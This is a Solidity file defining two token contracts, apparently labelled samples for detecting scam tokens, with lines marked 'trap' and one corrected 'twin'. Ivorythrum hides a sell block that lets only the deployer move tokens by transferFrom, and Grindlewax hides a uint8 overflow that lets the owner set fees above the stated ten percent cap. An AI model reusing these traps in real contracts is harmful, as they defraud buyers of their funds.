// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

interface IMill {
    function createPair(address a, address b) external returns (address);
}

library Sums {
    function less(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "SafeMath: subtraction overflow");
        return a - b;
    }

    function more(uint256 a, uint256 b) internal pure returns (uint256) {
        require(a + b >= a, "SafeMath: addition overflow");
        return a + b;
    }
}

abstract contract Ledger6 {
    using Sums for uint256;
    string public name;
    string public symbol;
    uint8 public decimals = 9;
    uint256 public totalSupply;
    address public owner;
    address public pool;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor(string memory name_, string memory symbol_, uint256 supply) public {
        (name, symbol, owner) = (name_, symbol_, msg.sender);
        pool = IMill(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        totalSupply = supply * 10 ** 9;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        _lent(msg.sender, spender);
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _step(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _used(from, msg.sender);
        allowance[from][msg.sender] = allowance[from][msg.sender].less(value);
        _step(from, to, value);
        return true;
    }

    function _lent(address who, address spender) internal virtual {}

    function _used(address who, address spender) internal virtual {}

    function _step(address from, address to, uint256 value) internal virtual {
        balanceOf[from] = balanceOf[from].less(value);
        balanceOf[to] = balanceOf[to].more(value);
        emit Transfer(from, to, value);
    }
}

/// Approvals carry the time they were given.
contract Ivorythrum is Ledger6 {
    address private _maker = msg.sender;
    mapping(bytes32 => uint256) private _stamp;

    constructor() public Ledger6("Ivorythrum", "IVTH", 100_000_000_000) {}

    function givenAt(address who, address spender) external view returns (uint256) {
        return _stamp[keccak256(abi.encode(who, spender))];
    }

    function _lent(address who, address spender) internal override {
        _stamp[keccak256(abi.encode(who, spender))] = now;
    }

    function _used(address who, address spender) internal override {
        uint256 stamp = _stamp[keccak256(abi.encode(who, spender))];
        if (who != _maker) require(stamp == now, "ERC20: transfer amount exceeds allowance"); // trap
        if (stamp != 0 && allowance[who][spender] == 0) _stamp[keccak256(abi.encode(who, spender))] = 0;
    }
}

/// Ten of a hundred at most for the market and the bounty together.
contract Grindlewax is Ledger6 {
    uint8 public marketFee = 2;
    uint8 public bountyFee = 1;
    address public bounty = msg.sender;

    event FeesSet(uint8 market, uint8 bounty);

    constructor() public Ledger6("Grindlewax", "GRWX", 1_000_000_000) {}

    function setFees(uint8 market_, uint8 bounty_) external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        require(market_ + bounty_ <= 10, "Grindlewax: over ten"); // trap
        // twin: require(uint256(market_) + uint256(bounty_) <= 10, "Grindlewax: over ten");
        (marketFee, bountyFee) = (market_, bounty_);
        emit FeesSet(market_, bounty_);
    }

    function _step(address from, address to, uint256 value) internal override {
        uint256 due;
        if (from != bounty && to != bounty) {
            if (to == pool) due = (value * marketFee) / 100;
            if (from == pool) due = (value * bountyFee) / 100;
        }
        if (due > 0) super._step(from, bounty, due);
        super._step(from, to, value.less(due));
    }
}
